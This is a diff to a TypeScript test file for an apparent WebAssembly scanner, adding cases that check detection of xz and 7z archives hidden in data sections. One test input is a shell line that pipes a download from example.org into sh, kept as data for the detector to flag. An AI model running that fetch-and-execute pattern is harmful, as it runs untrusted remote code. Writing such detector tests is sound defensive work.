@@ -32,6 +32,10 @@ function producers(language: string): Uint8Array {
   return customSection('producers', Uint8Array.from([1, ...text('language'), 1, ...text(language), 0]));
 }
 
+/** The header of an xz stream, and the start of an empty 7z archive, each with its checksum. */
+const XZ = Buffer.from('fd377a585a000004e6d6b446', 'hex');
+const SEVEN_ZIP = Buffer.from(`377abcaf271c00048d9bd50f${'00'.repeat(20)}`, 'hex');
+
 export const SUSPICION_CASES: readonly RuleCase[] = [
   fires('ASY10', 'a file that is something else', () => Buffer.from('#!/bin/sh\necho hello\n')),
   fires('ASY10', 'a section that ends too early', () => Buffer.concat([HEADER, Uint8Array.of(1, 20, 0)])),
@@ -154,6 +158,11 @@ export const SUSPICION_CASES: readonly RuleCase[] = [
     says: 'WebAssembly module',
   }),
   fires('ASY430', 'a compressed stream in data', () => withBytes(gzipSync('hello '.repeat(50)))),
+  fires('ASY430', 'an xz stream in data', () => withBytes(XZ), { says: 'xz stream' }),
+  fires('ASY430', 'a 7z archive in data', () => withBytes(SEVEN_ZIP), { says: '7z archive' }),
+  silent('ASY430', 'the signatures of both, as 7-Zip itself holds them', () =>
+    withBytes(Buffer.concat([XZ.subarray(0, 6), Buffer.alloc(40), SEVEN_ZIP.subarray(0, 6), Buffer.alloc(40)])),
+  ),
   fires('ASY430', 'a shell script in data', withData('#!/bin/sh\ncurl -s example.org | sh\n')),
   silent('ASY430', 'the letters of a magic number', withData('\\MZ and PK and \u007fEL')),
   silent('ASY430', 'text', PATH_OPEN),
